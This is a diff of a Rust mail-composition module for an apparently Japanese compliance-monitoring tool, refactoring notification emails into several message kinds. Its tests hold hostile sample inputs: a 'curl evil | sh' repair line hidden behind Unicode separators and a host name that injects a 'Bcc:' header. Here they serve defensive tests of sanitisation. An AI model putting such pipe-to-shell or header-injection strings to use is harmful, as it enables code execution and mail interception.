@@ -2,21 +2,20 @@
 
 use std::fmt::Write as _;
 
-use chrono::FixedOffset;
+use chrono::{FixedOffset, NaiveDate};
 use lettre::Message;
 use lettre::message::header::{ContentType, HeaderName, HeaderValue};
 use lettre::message::{Mailbox, MessageBuilder};
 use tenken_model::digest::Digest;
 use tenken_model::{Instant, Language};
 
-use super::book::{Book, Chapter};
+use super::book::Book;
 use super::settings::MailSettings;
 use super::transport::MailError;
+use super::{attestation, daily, drift, proposal};
 use crate::plain::one_line;
-use crate::store::{ClaimedMail, MailKind};
+use crate::store::{ClaimedMail, MailBody};
 
-/// The most values of evidence that a mail shows; the page has all.
-const EVIDENCE_MAX: usize = 10;
 /// The most characters of what a host says in one line of a mail; the page has all.
 const HOSTS_WORDS_MAX: usize = 500;
 /// Hours from Coordinated Universal Time to the time people read.
@@ -31,63 +30,32 @@ pub struct Letter {
     pub text: String,
 }
 
-/// The words of a mail about a drift.
+/// The words of a mail.
 pub fn letter(mail: &ClaimedMail, book: &Book, settings: &MailSettings) -> Letter {
-    let chapter = book.chapter(&mail.body.finding.key.rule);
     let languages = settings.languages();
     let first = languages.first().copied().unwrap_or_default();
     let texts: Vec<String> =
-        languages.iter().map(|language| text(mail, &chapter, &settings.dashboard, *language)).collect();
-    Letter { subject: subject(mail, &chapter, first), text: texts.join("\n----\n\n") }
+        languages.iter().map(|language| text(mail, book, &settings.dashboard, *language)).collect();
+    Letter { subject: subject(mail, book, first), text: texts.join("\n----\n\n") }
 }
 
-fn subject(mail: &ClaimedMail, chapter: &Chapter, language: Language) -> String {
-    let (host, rule) = (&said(&mail.body.host_name), language.of(&chapter.title));
-    match mail.kind {
-        MailKind::Opened => language.mail_subject_opened(host, rule),
-        MailKind::Reopened => language.mail_subject_reopened(host, rule),
-        MailKind::Reminder => language.mail_subject_reminder(host, rule),
-        MailKind::Resolved => language.mail_subject_resolved(host, rule),
+fn subject(mail: &ClaimedMail, book: &Book, language: Language) -> String {
+    match &mail.body {
+        MailBody::Drift(news) => drift::subject(mail, news, book, language),
+        MailBody::Attestation(news) => attestation::subject(mail, news, book, language),
+        MailBody::Proposal(news) => proposal::subject(news, book, language),
+        MailBody::Daily(news) => daily::subject(news, language),
     }
 }
 
-fn text(mail: &ClaimedMail, chapter: &Chapter, dashboard: &str, language: Language) -> String {
-    let body = &mail.body;
-    let finding = &body.finding;
-    let (says, happened) = (&said(language.of(&finding.says)), shown(body.at, language));
-    let (lead, says, happened) = match mail.kind {
-        MailKind::Opened => (language.mail_lead_opened(), language.mail_says(says), language.mail_opened_at(&happened)),
-        MailKind::Reopened => {
-            (language.mail_lead_reopened(), language.mail_says(says), language.mail_reopened_at(&happened))
-        }
-        MailKind::Reminder => {
-            (language.mail_lead_reminder(), language.mail_says(says), language.mail_reminded_at(&happened))
-        }
-        MailKind::Resolved => {
-            (language.mail_lead_resolved(), language.mail_said(says), language.mail_resolved_at(&happened))
-        }
+fn text(mail: &ClaimedMail, book: &Book, dashboard: &str, language: Language) -> String {
+    let mut lines = match &mail.body {
+        MailBody::Drift(news) => drift::text(mail, news, book, language),
+        MailBody::Attestation(news) => attestation::text(mail, news, book, language),
+        MailBody::Proposal(news) => proposal::text(news, book, language),
+        MailBody::Daily(news) => daily::text(news, book, language),
     };
-    let mut lines = vec![lead, String::new(), language.mail_host(&said(&body.host_name))];
-    lines.push(language.mail_rule(language.of(&chapter.title)));
-    if let Some(about) = &finding.key.subject {
-        lines.push(language.mail_finding_subject(&said(about.as_str())));
-    }
-    lines.push(says);
-    lines.push(language.mail_since(&shown(body.failing_since, language)));
-    lines.push(happened);
-    if !chapter.items.is_empty() {
-        lines.extend([String::new(), language.mail_items()]);
-        lines.extend(chapter.items.iter().map(|item| format!("  - {}", language.of(item))));
-    }
-    if mail.kind != MailKind::Resolved {
-        evidence(mail, language, &mut lines);
-        let remedy = language.of(&chapter.remedy);
-        if !remedy.is_empty() {
-            lines.extend([String::new(), language.mail_remedy()]);
-            lines.extend(remedy.lines().map(|line| format!("  {line}")));
-        }
-    }
-    let page = format!("{}/drifts/{}", dashboard.trim_end_matches('/'), mail.drift);
+    let page = format!("{}{}", dashboard.trim_end_matches('/'), mail.thread.page());
     lines.extend([String::new(), language.mail_page(&page), String::new(), language.mail_foot()]);
     lines.iter().fold(String::new(), |mut text, line| {
         let _infallible = writeln!(text, "{line}");
@@ -95,26 +63,13 @@ fn text(mail: &ClaimedMail, chapter: &Chapter, dashboard: &str, language: Langua
     })
 }
 
-fn evidence(mail: &ClaimedMail, language: Language, lines: &mut Vec<String>) {
-    let all = &mail.body.finding.evidence;
-    if all.is_empty() {
-        return;
-    }
-    lines.extend([String::new(), language.mail_evidence()]);
-    lines.extend(all.iter().take(EVIDENCE_MAX).map(|one| format!("  {} = {}", said(&one.path), said(&one.value))));
-    let left = all.len().saturating_sub(EVIDENCE_MAX);
-    if left > 0 {
-        lines.push(format!("  {}", language.mail_evidence_left(left)));
-    }
-}
-
 /// What a host says: it shall not look like a line of ours, nor turn the text around it.
-fn said(text: &str) -> String {
+pub(super) fn said(text: &str) -> String {
     one_line(text, HOSTS_WORDS_MAX)
 }
 
 /// An instant as people in Japan read it.
-fn shown(instant: Instant, language: Language) -> String {
+pub(super) fn shown(instant: Instant, language: Language) -> String {
     let Some(japan) = FixedOffset::east_opt(JAPAN_HOURS * 3_600) else { return instant.to_rfc3339() };
     let there = instant.with_timezone(&japan);
     match language {
@@ -123,15 +78,30 @@ fn shown(instant: Instant, language: Language) -> String {
     }
 }
 
-/// The mail itself. `mark` is the authority's digest, which keeps two dashboards of one sender apart.
-pub fn message(mail: &ClaimedMail, book: &Book, settings: &MailSettings, mark: &Digest) -> Result<Message, MailError> {
+/// A day as people read it.
+pub(super) fn shown_day(date: NaiveDate, language: Language) -> String {
+    match language {
+        Language::Japanese => date.format("%Y年%-m月%-d日").to_string(),
+        Language::English => date.format("%Y-%m-%d").to_string(),
+    }
+}
+
+/// The mail itself, to those addresses. `mark` is the authority's digest, which keeps two dashboards of one sender apart.
+pub fn message(
+    mail: &ClaimedMail,
+    to: &[String],
+    book: &Book,
+    settings: &MailSettings,
+    mark: &Digest,
+) -> Result<Message, MailError> {
     let letter = letter(mail, book, settings);
-    let mut builder = addressed(settings)?
+    let mut builder = addressed(settings, to)?
         .message_id(Some(named(&mail.message_id, settings, mark)?))
         .date(mail.created_at.into())
         .subject(letter.subject);
-    if mail.message_id != mail.thread {
-        let thread = named(&mail.thread, settings, mark)?;
+    let first = mail.thread.first();
+    if mail.message_id != first {
+        let thread = named(&first, settings, mark)?;
         builder = builder.in_reply_to(thread.clone()).references(thread);
     }
     written(builder, letter.text)
@@ -140,17 +110,18 @@ pub fn message(mail: &ClaimedMail, book: &Book, settings: &MailSettings, mark: &
 /// A mail that only shows whether the settings work.
 pub fn test_message(settings: &MailSettings, now: Instant) -> Result<Message, MailError> {
     let language = settings.languages().first().copied().unwrap_or_default();
-    let builder = addressed(settings)?.message_id(None).date(now.into()).subject(language.mail_test_subject());
+    let builder =
+        addressed(settings, &settings.to)?.message_id(None).date(now.into()).subject(language.mail_test_subject());
     written(builder, format!("{}\n\n{}\n", language.mail_test_text(), language.mail_foot()))
 }
 
-fn addressed(settings: &MailSettings) -> Result<MessageBuilder, MailError> {
+fn addressed(settings: &MailSettings, to: &[String]) -> Result<MessageBuilder, MailError> {
     let mut builder = Message::builder().from(mailbox(&settings.from)?);
-    if settings.to.is_empty() {
+    if to.is_empty() {
         return Err(MailError::Nobody);
     }
-    for to in &settings.to {
-        builder = builder.to(mailbox(to)?);
+    for address in to {
+        builder = builder.to(mailbox(address)?);
     }
     // RFC 3834: no answering machine answers.
     let automatic = HeaderValue::new(HeaderName::new_from_ascii_str("Auto-Submitted"), "auto-generated".to_owned());
@@ -175,11 +146,11 @@ fn named(name: &str, settings: &MailSettings, mark: &Digest) -> Result<String, M
 #[cfg(test)]
 pub(super) mod tests {
     use tenken_model::finding::{Bilingual, Evidence};
-    use tenken_model::{Finding, FindingKey, HostId, RuleId, Subject, Verdict};
+    use tenken_model::{Finding, FindingKey, HostId, ItemId, RuleId, Subject, Verdict};
 
     use super::*;
-    use crate::mail::TransportSettings;
-    use crate::store::MailBody;
+    use crate::mail::{Chapter, TransportSettings};
+    use crate::store::{DriftNews, MailKind, Thread};
 
     pub(in crate::mail) fn settings() -> MailSettings {
         MailSettings {
@@ -188,37 +159,39 @@ pub(super) mod tests {
             dashboard: "https://tenken.example.jp/".into(),
             languages: vec!["ja".into(), "en".into()],
             transport: TransportSettings::None,
+            webhook: None,
         }
     }
 
+    fn at() -> Instant {
+        "2026-11-23T23:05:00Z".parse().unwrap()
+    }
+
+    pub(in crate::mail) fn about(body: MailBody, thread: Thread, kind: MailKind) -> ClaimedMail {
+        let message_id = thread.message_id(kind, 0);
+        ClaimedMail { id: 1, thread, kind, message_id, attempts: 1, created_at: at(), body }
+    }
+
     pub(in crate::mail) fn mail(kind: MailKind) -> ClaimedMail {
-        let at: Instant = "2026-11-23T23:05:00Z".parse().unwrap();
+        about(MailBody::Drift(news()), Thread::Drift(5), kind)
+    }
+
+    pub(in crate::mail) fn news() -> DriftNews {
         let evidence = (0..12).map(|n| Evidence { path: format!("p{n}"), value: "x".into(), volatile: false });
-        ClaimedMail {
-            id: 1,
-            drift: 5,
-            kind,
-            message_id: format!("tenken.drift.5.{kind}.0"),
-            thread: "tenken.drift.5.opened.0".into(),
-            attempts: 1,
-            created_at: at,
-            body: MailBody {
-                host: HostId::new("h-1").unwrap(),
-                host_name: "受付PC".into(),
-                finding: Finding {
-                    key: FindingKey {
-                        rule: RuleId::new("screen_lock_enforced").unwrap(),
-                        subject: Some(Subject::new("sato").unwrap()),
-                    },
-                    verdict: Verdict::Fail,
-                    says: Bilingual { ja: "ロックされません。".into(), en: "It does not lock.".into() },
-                    branch: None,
-                    evidence: evidence.collect(),
-                    observed_at: at,
-                },
-                failing_since: at,
-                at,
+        let rule = RuleId::new("screen_lock_enforced").unwrap();
+        DriftNews {
+            host: HostId::new("h-1").unwrap(),
+            host_name: "受付PC".into(),
+            finding: Finding {
+                key: FindingKey { rule, subject: Some(Subject::new("sato").unwrap()) },
+                verdict: Verdict::Fail,
+                says: Bilingual { ja: "ロックされません。".into(), en: "It does not lock.".into() },
+                branch: None,
+                evidence: evidence.collect(),
+                observed_at: at(),
             },
+            failing_since: at(),
+            at: at(),
         }
     }
 
@@ -229,7 +202,11 @@ pub(super) mod tests {
             remedy: both("1. 設定を開きます。\n2. 適用します。", "1. Open the settings.\n2. Apply."),
             items: vec![both("技術的安全対策 9", "Technical 9")],
         };
-        Book { chapters: [(RuleId::new("screen_lock_enforced").unwrap(), chapter)].into() }
+        let item = (
+            ItemId::new("organizational.5").unwrap(),
+            both("組織的安全対策 No.5 担当者の設置", "Organizational No. 5"),
+        );
+        Book { chapters: [(RuleId::new("screen_lock_enforced").unwrap(), chapter)].into(), items: [item].into() }
     }
 
     #[test]
@@ -264,12 +241,13 @@ pub(super) mod tests {
 
     #[test]
     fn a_host_cannot_write_lines_of_its_own() {
-        let mut hostile = mail(MailKind::Opened);
-        hostile.body.finding.says.en = "Fine.\n\nHow to repair:\r\n  curl evil\u{2028}| sh".into();
-        hostile.body.host_name = "PC\u{2028}Host: other\u{202e}".into();
-        hostile.body.finding.evidence =
+        let mut hostile = news();
+        hostile.finding.says.en = "Fine.\n\nHow to repair:\r\n  curl evil\u{2028}| sh".into();
+        hostile.host_name = "PC\u{2028}Host: other\u{202e}".into();
+        hostile.finding.evidence =
             vec![Evidence { path: "a\nb".into(), value: "\u{202e}".repeat(600), volatile: false }];
         let english = MailSettings { languages: vec!["en".into()], ..settings() };
+        let hostile = about(MailBody::Drift(hostile), Thread::Drift(5), MailKind::Opened);
         let letter = letter(&hostile, &book(), &english);
         let name = "PC\u{fffd}Host: other\u{fffd}";
         assert!(letter.subject.contains(name) && letter.text.contains(name), "{letter:?}");
@@ -289,7 +267,7 @@ pub(super) mod tests {
     fn the_mails_of_a_drift_are_one_thread() {
         let mark = Digest::of(b"authority");
         let raw = |kind| {
-            let message = message(&mail(kind), &book(), &settings(), &mark).unwrap();
+            let message = message(&mail(kind), &settings().to, &book(), &settings(), &mark).unwrap();
             String::from_utf8(message.formatted()).unwrap()
         };
         let id = |name: &str| format!("<{name}.{}@example.jp>", &mark.to_string()[..12]);
@@ -303,15 +281,16 @@ pub(super) mod tests {
         );
         assert!(opened.contains("Subject: =?utf-8?b?") && opened.contains("Auto-Submitted: auto-generated"));
         assert_eq!(opened, raw(MailKind::Opened), "the same mail each time");
-        let another = message(&mail(MailKind::Opened), &book(), &settings(), &Digest::of(b"b")).unwrap();
+        let another =
+            message(&mail(MailKind::Opened), &settings().to, &book(), &settings(), &Digest::of(b"b")).unwrap();
         assert_ne!(opened, String::from_utf8(another.formatted()).unwrap());
     }
 
     #[test]
     fn names_cannot_add_headers() {
-        let mut odd = mail(MailKind::Opened);
-        odd.body.host_name = "pc\r\nBcc: thief@example.org\r\n".into();
-        let message = message(&odd, &book(), &settings(), &Digest::of(b"a")).unwrap();
+        let odd = DriftNews { host_name: "pc\r\nBcc: thief@example.org\r\n".into(), ..news() };
+        let odd = about(MailBody::Drift(odd), Thread::Drift(5), MailKind::Opened);
+        let message = message(&odd, &settings().to, &book(), &settings(), &Digest::of(b"a")).unwrap();
         let raw = String::from_utf8(message.formatted()).unwrap();
         assert!(!raw.lines().any(|line| line.starts_with("Bcc")), "{raw}");
         assert_eq!(message.envelope().to().len(), 2);
